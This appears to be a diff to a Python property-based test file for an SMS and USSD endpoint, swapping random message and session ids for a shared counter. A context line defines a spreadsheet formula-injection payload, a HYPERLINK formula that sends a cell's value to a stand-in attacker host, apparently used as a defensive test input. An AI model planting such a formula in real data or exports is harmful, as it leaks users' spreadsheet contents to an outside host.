@@ -6,6 +6,7 @@ from __future__ import annotations
 
 import csv
 import io
+import itertools
 import re
 from urllib.parse import urlencode
 
@@ -27,6 +28,7 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 
 # Any text a person or a broken phone may send: every plane, controls, right-to-left marks, long runs.
 TEXT = st.text(st.characters(blacklist_categories=("Cs",)), min_size=1, max_size=600)
+_IDS = itertools.count()
 SETTINGS = settings(max_examples=25, deadline=None, suppress_health_check=list(HealthCheck))
 
 
@@ -54,9 +56,9 @@ def test_any_text_lodged_through_the_api_is_kept_as_sent_or_refused_with_a_messa
 
 
 @SETTINGS
-@given(text=TEXT, n=st.integers(0, 10**9))
-def test_any_sms_text_is_answered_and_recorded_whole(app, client, world, text, n):
-    msg_id = f"ATX-hyp-{n}-{len(text)}"
+@given(text=TEXT)
+def test_any_sms_text_is_answered_and_recorded_whole(app, client, world, text):
+    msg_id = f"ATX-hyp-{next(_IDS)}"  # (the examples share one database: a repeated id is a resent SMS)
     body = urlencode({"from": "+8801712345678", "to": "21356", "text": text, "date": "2026-03-01 10:00:00",
                       "id": msg_id, "linkId": ""})
     r = client.post(AT_URL, data=body, content_type=FORM)
@@ -69,9 +71,9 @@ def test_any_sms_text_is_answered_and_recorded_whole(app, client, world, text, n
 
 
 @SETTINGS
-@given(text=st.text(st.sampled_from("0123456789*#abc\x00 ৳১২"), max_size=80), n=st.integers(0, 10**9))
-def test_any_ussd_input_gets_a_screen(client, world, text, n):
-    r = client.post(USSD_URL, data={"sessionId": f"hyp-{n}", "serviceCode": "*123#",
+@given(text=st.text(st.sampled_from("0123456789*#abc\x00 ৳১২"), max_size=80))
+def test_any_ussd_input_gets_a_screen(client, world, text):
+    r = client.post(USSD_URL, data={"sessionId": f"hyp-{next(_IDS)}", "serviceCode": "*123#",
                                     "phoneNumber": "+8801712345678", "networkCode": "47001", "text": text})
     assert r.status_code in (200, 400), (r.status_code, text)
     if r.status_code == 200:
